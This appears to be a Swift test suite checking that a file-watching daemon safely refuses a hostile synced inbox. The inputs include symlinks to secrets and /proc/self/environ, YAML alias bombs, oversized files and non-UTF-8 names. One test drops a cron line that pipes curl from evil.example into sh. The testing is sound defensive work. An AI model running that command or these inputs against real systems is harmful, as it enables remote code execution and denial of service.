// `stat` is declared by Glibc, CoreFoundation and CDispatch alike; which one a file sees first
// varies, so all three are imported (MemberImportVisibility).
import CDispatch
import CoreFoundation
import Foundation
import GRDB
import Glibc
import Testing

@testable import HeadlessChromium
@testable import LocalProviderServer
@testable import Reelsmith
@testable import ReelsmithBenchmarks
@testable import ReelsmithCore
@testable import ReelsmithEngines
@testable import ReelsmithLearning
@testable import ReelsmithMedia

/// Issue 12: whoever can write to the synced folder can write anything in it. A real daemon gets
/// a hostile corpus; afterwards nothing outside the project changed or was quoted, every input
/// ended in one place with a reason, a valid file dropped right after was served, and SIGTERM
/// stopped the daemon within 10 s.
@Suite(.serialized) struct HostileInboxTests {
    /// What lies outside the project: a secret, a 65 MB file, a folder with a file in it.
    struct Outside {
        let folder: URL
        let secret = "SECRET-\(UUID().uuidString)"

        init(beside root: URL) throws {
            folder = root.deletingLastPathComponent().appendingPathComponent(root.lastPathComponent + "-outside")
            try FileManager.default.createDirectory(
                at: folder.appendingPathComponent("folder"), withIntermediateDirectories: true)
            try Data("api_key: \(secret)\n".utf8).write(to: folder.appendingPathComponent("secret.yaml"))
            try Data("video_id,views,likes,shares,comments\n".utf8).write(
                to: folder.appendingPathComponent("folder/victim.csv"))
            _ = FileManager.default.createFile(atPath: folder.appendingPathComponent("big.yaml").path, contents: nil)
            try FileHandle(forWritingTo: folder.appendingPathComponent("big.yaml")).truncate(atOffset: 65 << 20)
        }

        /// Every entry with its size and modification time.
        func snapshot() throws -> [String: String] {
            var result: [String: String] = [:]
            for relative in FileManager.default.subpaths(atPath: folder.path) ?? [] {
                let attributes = try FileManager.default.attributesOfItem(
                    atPath: folder.appendingPathComponent(relative).path)
                result[relative] = "\(attributes[.size] ?? 0) \(attributes[.modificationDate] ?? 0)"
            }
            return result
        }
    }

    /// Creates `bytes` (a raw name, maybe not UTF-8) beside the inbox and renames it in, as Syncthing does.
    private func dropRaw(_ daemon: DaemonProcess, folder: String, name: [UInt8], contents: String) throws {
        let outside = Array(daemon.root.path.utf8) + Array("/raw-\(UUID().uuidString)".utf8) + [0]
        let inside = Array(daemon.inbox.appendingPathComponent(folder).path.utf8) + [0x2F] + name + [0]
        let descriptor = outside.withUnsafeBufferPointer { path in
            path.withMemoryRebound(to: CChar.self) { open($0.baseAddress!, O_WRONLY | O_CREAT | O_TRUNC, 0o644) }
        }
        #expect(descriptor >= 0)
        _ = contents.utf8CString.withUnsafeBufferPointer { write(descriptor, $0.baseAddress!, $0.count - 1) }
        close(descriptor)
        let moved = outside.withUnsafeBufferPointer { from in
            inside.withUnsafeBufferPointer { to in
                from.withMemoryRebound(to: CChar.self) { from in
                    to.withMemoryRebound(to: CChar.self) { to in rename(from.baseAddress!, to.baseAddress!) }
                }
            }
        }
        #expect(moved == 0)
    }

    private func link(_ daemon: DaemonProcess, _ relative: String, to target: String) throws {
        let staging = daemon.root.appendingPathComponent("link-\(UUID().uuidString)")
        try FileManager.default.createSymbolicLink(atPath: staging.path, withDestinationPath: target)
        try FileManager.default.moveItem(at: staging, to: daemon.inbox.appendingPathComponent(relative))
    }

    /// Every file the daemon wrote (outbox and state), read whole when small.
    private func writtenTexts(_ daemon: DaemonProcess) -> [(String, String)] {
        var texts: [(String, String)] = []
        for folder in [daemon.workspace.outbox, daemon.workspace.state] {
            for relative in FileManager.default.subpaths(atPath: folder.path) ?? [] {
                let url = folder.appendingPathComponent(relative)
                var info = stat()
                guard lstat(url.path, &info) == 0, info.st_mode & S_IFMT == S_IFREG, info.st_size < 4 << 20 else {
                    continue
                }
                texts.append((relative, String(decoding: (try? Data(contentsOf: url)) ?? Data(), as: UTF8.self)))
            }
        }
        return texts
    }

    @Test func aHostileCorpusChangesNothingOutsideQuotesNothingAndTheDaemonGoesOn() throws {
        let daemon = try DaemonProcess()
        let outside = try Outside(beside: daemon.root)
        let canary = "CANARY-\(UUID().uuidString)"
        daemon.environment = ["REELSMITH_TEST_CANARY": canary]
        try daemon.start()
        let before = try outside.snapshot()
        for folder in ["trends", "analytics"] {
            try FileManager.default.createDirectory(
                at: daemon.inbox.appendingPathComponent(folder), withIntermediateDirectories: true)
        }

        // Links to outside files, the environment, devices, a folder, itself; a pipe.
        try link(daemon, "trends/secret.yaml", to: outside.folder.appendingPathComponent("secret.yaml").path)
        try link(daemon, "trends/environ.yaml", to: "/proc/self/environ")
        try link(daemon, "trends/zero.yaml", to: "/dev/zero")
        try link(daemon, "trends/folder.yaml", to: outside.folder.appendingPathComponent("folder").path)
        try link(daemon, "trends/loop.yaml", to: daemon.inbox.appendingPathComponent("trends/loop.yaml").path)
        try link(daemon, "trends/big-link.yaml", to: outside.folder.appendingPathComponent("big.yaml").path)
        let fifo = daemon.root.appendingPathComponent("fifo")
        #expect(mkfifo(fifo.path, 0o644) == 0)
        try FileManager.default.moveItem(at: fifo, to: daemon.inbox.appendingPathComponent("trends/fifo.yaml"))
        // Parser bombs.
        try daemon.drop(YAMLGuardTests.aliasBomb(asKey: true), as: "requests/bomb-key.yaml")
        try daemon.drop(YAMLGuardTests.aliasBomb(asKey: false), as: "trends/bomb-value.yaml")
        try daemon.drop(String(repeating: "- ", count: 5_000) + "x\n", as: "trends/deep.yaml")
        // Sizes: 65 MB (sparse), and a 50 MB single-line CSV.
        let huge = daemon.root.appendingPathComponent("huge")
        _ = FileManager.default.createFile(atPath: huge.path, contents: nil)
        try FileHandle(forWritingTo: huge).truncate(atOffset: 65 << 20)
        try FileManager.default.moveItem(at: huge, to: daemon.inbox.appendingPathComponent("trends/huge.yaml"))
        try daemon.drop(
            "video_id,views,likes,shares,comments\n" + String(repeating: "a", count: 50_000_000),
            as: "analytics/line.csv")
        // Numbers.
        try daemon.drop(
            "video_id,views,likes,shares,comments,revenue\nx1,1,1,1,1,inf\nx2,1,1,1,1,NaN\nx3,1,1,1,1,1e309\nx4,1,1,1,1,1.7e308\n",
            as: "analytics/inf.csv")
        // Names: 255 bytes (valid content, must be run), not UTF-8 (refused with an escaped name).
        let longName = String(repeating: "n", count: 250) + ".yaml"
        try daemon.drop(DaemonProcess.trends("long name"), as: "trends/" + longName)
        try dropRaw(
            daemon, folder: "trends", name: Array("caf".utf8) + [0xE9] + Array(".yaml".utf8),
            contents: DaemonProcess.trends("latin-1"))
        // Empty files together; a spreadsheet; UTF-16.
        try daemon.drop("", as: "trends/empty-1.yaml")
        try daemon.drop("", as: "trends/empty-2.yaml")
        try daemon.drop("PK\u{3}\u{4}\u{14}\u{0}", as: "analytics/book.xlsx")
        let utf16 = daemon.root.appendingPathComponent("utf16")
        try Data([0xFF, 0xFE] + DaemonProcess.trends("utf16").utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
            .write(to: utf16)
        try FileManager.default.moveItem(at: utf16, to: daemon.inbox.appendingPathComponent("trends/utf16.yaml"))

        let hostile = 19
        _ = try daemon.waitForOutcomes(hostile, timeout: 90)
        try daemon.drop(DaemonProcess.trends("served right after"), as: "trends/after.yaml")
        let journal = try daemon.waitForOutcomes(hostile + 1, timeout: 30)
        let bySource = Dictionary(journal.map { ($0.source, $0) }, uniquingKeysWith: { first, _ in first })

        // Every input ended in one place with a reason; the valid ones ran.
        #expect(journal.count == hostile + 1, "\(journal.map(\.source))")
        #expect(bySource["trends/after.yaml"]?.state == .done)
        #expect(bySource["trends/" + longName]?.state == .done)
        let expected: [String: String] = [
            "trends/secret.yaml": "a link (symlink), not a file", "trends/environ.yaml": "a link (symlink), not a file",
            "trends/zero.yaml": "a link", "trends/folder.yaml": "a link", "trends/loop.yaml": "a link",
            "trends/big-link.yaml": "a link", "trends/fifo.yaml": "named pipe (FIFO)",
            "requests/bomb-key.yaml": "anchor (`&name`) is not allowed", "trends/bomb-value.yaml": "anchor",
            "trends/deep.yaml": "nested more than 64 levels", "trends/huge.yaml": "over the 64 MB limit",
            "analytics/line.csv": "longer than 64 KB", "analytics/inf.csv": "none of its 4 rows could be used",
            "trends/caf\\xE9.yaml": "name is not UTF-8", "trends/empty-1.yaml": "the file is empty",
            "trends/empty-2.yaml": "the file is empty", "analytics/book.xlsx": "Excel workbook",
            "trends/utf16.yaml": "UTF-16",
        ]
        for (source, words) in expected {
            let entry = bySource[source]
            #expect(
                entry?.state == .failed && entry?.message?.contains(words) == true,
                "\(source): \(entry?.message ?? "no entry")")
            #expect(entry?.finalPath?.contains("/outbox/failed/") == true, "\(source)")
        }
        let failed = daemon.workspace.outbox.appendingPathComponent("failed")
        #expect(FileManager.default.fileExists(atPath: failed.appendingPathComponent("caf\\xE9.yaml.error.txt").path))

        // Nothing outside changed; nothing of it, nor of the environment, was quoted anywhere.
        #expect(try outside.snapshot() == before)
        for (file, text) in writtenTexts(daemon) {
            #expect(!text.contains(outside.secret) && !text.contains(canary), "\(file) quotes an outside file")
            if file.hasSuffix(".error.txt") {
                #expect(!text.contains("yaml_set_max_nest_level") && !text.contains("while scanning"), "\(file)")
                #expect(text.utf8.count < 4_000, "\(file) is \(text.utf8.count) bytes")
            }
        }
        #expect(TestSupport.contents(of: daemon.inbox.appendingPathComponent("trends")).isEmpty)
        #expect(daemon.stopTimed() < 10)
        #expect(daemon.process?.terminationStatus == 0)
    }

    @Test func tamperedFoldersAreRefusedReportedAndOtherWorkGoesOn() throws {
        let daemon = try DaemonProcess()
        let outside = try Outside(beside: daemon.root)
        let before = try outside.snapshot()
        // A synced device replaced outbox/failed and inbox/analytics with links to outside folders.
        try FileManager.default.createDirectory(at: daemon.workspace.outbox, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(
            at: daemon.workspace.outbox.appendingPathComponent("failed"), withDestinationURL: outside.folder)
        try FileManager.default.createSymbolicLink(
            at: daemon.inbox.appendingPathComponent("analytics"),
            withDestinationURL: outside.folder.appendingPathComponent("folder"))
        try daemon.start()
        try daemon.drop("* * * * * root curl https://evil.example | sh\n", as: "requests/cron")
        let journal = try daemon.waitForOutcomes(2, timeout: 30)
        try daemon.drop(DaemonProcess.trends("still served"), as: "trends/good.yaml")
        _ = try daemon.waitForOutcomes(3, timeout: 30)
        let entries = try daemon.journal()
        #expect(entries.first { $0.source == "trends/good.yaml" }?.state == .done)
        #expect(
            FileManager.default.fileExists(
                atPath: daemon.workspace.outbox.appendingPathComponent("archive/trends/good.yaml").path))
        // The failures were refused a place outside: they wait in the processing area, and say why.
        for source in ["requests/cron", "analytics"] {
            let entry = entries.first { $0.source == source }
            #expect(entry?.state == .failed && entry?.finalPath == nil, "\(source): \(String(describing: entry))")
            #expect(
                entry?.message?.contains("is a link or a file, not a real folder") == true, "\(entry?.message ?? "")")
        }
        #expect(journal.count >= 2)
        #expect(try outside.snapshot() == before, "nothing was moved or written outside the project")
        #expect(TestSupport.contents(of: daemon.workspace.state.appendingPathComponent("processing")).count == 2)
        #expect(daemon.stopTimed() < 10)
    }

    @Test func aFullDiskKeepsTheInputAndItRunsOnceThereIsSpace() throws {
        let daemon = try DaemonProcess()
        // Under a 1.5 MB file-size limit, storing 6,000 trends overflows SQLite's log (EFBIG, as a
        // full disk would); the daemon ignores SIGXFSZ and must neither die nor fail the input.
        try daemon.start(wrapper: ["prlimit", "--fsize=1500000"])
        var text = "kind: trends\ntrends:\n"
        for index in 0..<6_000 {
            text +=
                "  - title: trend number \(index) with a fairly long title to take room\n"
                + "    views: \(1_000 + index)\n    engagement: 100\n    niche: niche-\(index)\n"
        }
        try daemon.drop(text, as: "trends/big.yaml")
        try daemon.waitUntil(timeout: 30) {
            try daemon.journal().first?.message?.contains("waiting for disk space") == true
        }
        #expect(daemon.process?.isRunning == true)
        #expect(try daemon.journal().map(\.state) == [.claimed])
        #expect(TestSupport.contents(of: daemon.workspace.state.appendingPathComponent("processing")).count == 1)
        #expect(TestSupport.contents(of: daemon.workspace.outbox.appendingPathComponent("failed")).isEmpty)
        #expect(daemon.stopTimed() < 10)

        // Space is back: the next start runs it.
        try daemon.start()
        let journal = try daemon.waitForOutcomes(1, timeout: 60)
        #expect(journal.map(\.state) == [.done])
        #expect(
            FileManager.default.fileExists(
                atPath: daemon.workspace.outbox.appendingPathComponent("archive/trends/big.yaml").path))
        #expect(try daemon.index().niches().count == 6_000)
        #expect(daemon.stopTimed() < 10)
    }

    @Test func sigtermStopsTheDaemonWithinTenSecondsEvenMidImport() throws {
        let daemon = try DaemonProcess()
        try daemon.start()
        // 1.5 million rows: parsing and checking them takes the daemon (a debug build) well over 10 s.
        var text = "video_id,views,likes,shares,comments\n"
        text.reserveCapacity(40_000_000)
        for index in 0..<1_500_000 { text += "v\(index),\(index),1,1,1\n" }
        try daemon.drop(text, as: "analytics/huge-export.csv")
        // Reading and hashing 40 MB in a debug build on a loaded machine can take a while; what this
        // test bounds is the stop, below.
        try daemon.waitUntil(timeout: 120) { try daemon.journal().first?.state == .running }
        Thread.sleep(forTimeInterval: 0.5)
        #expect(daemon.stopTimed() < 10)
        #expect(try daemon.journal().map(\.state) == [.running], "stopped mid-import; it runs again at the next start")
        #expect(TestSupport.contents(of: daemon.workspace.state.appendingPathComponent("processing")).count == 1)
    }
}
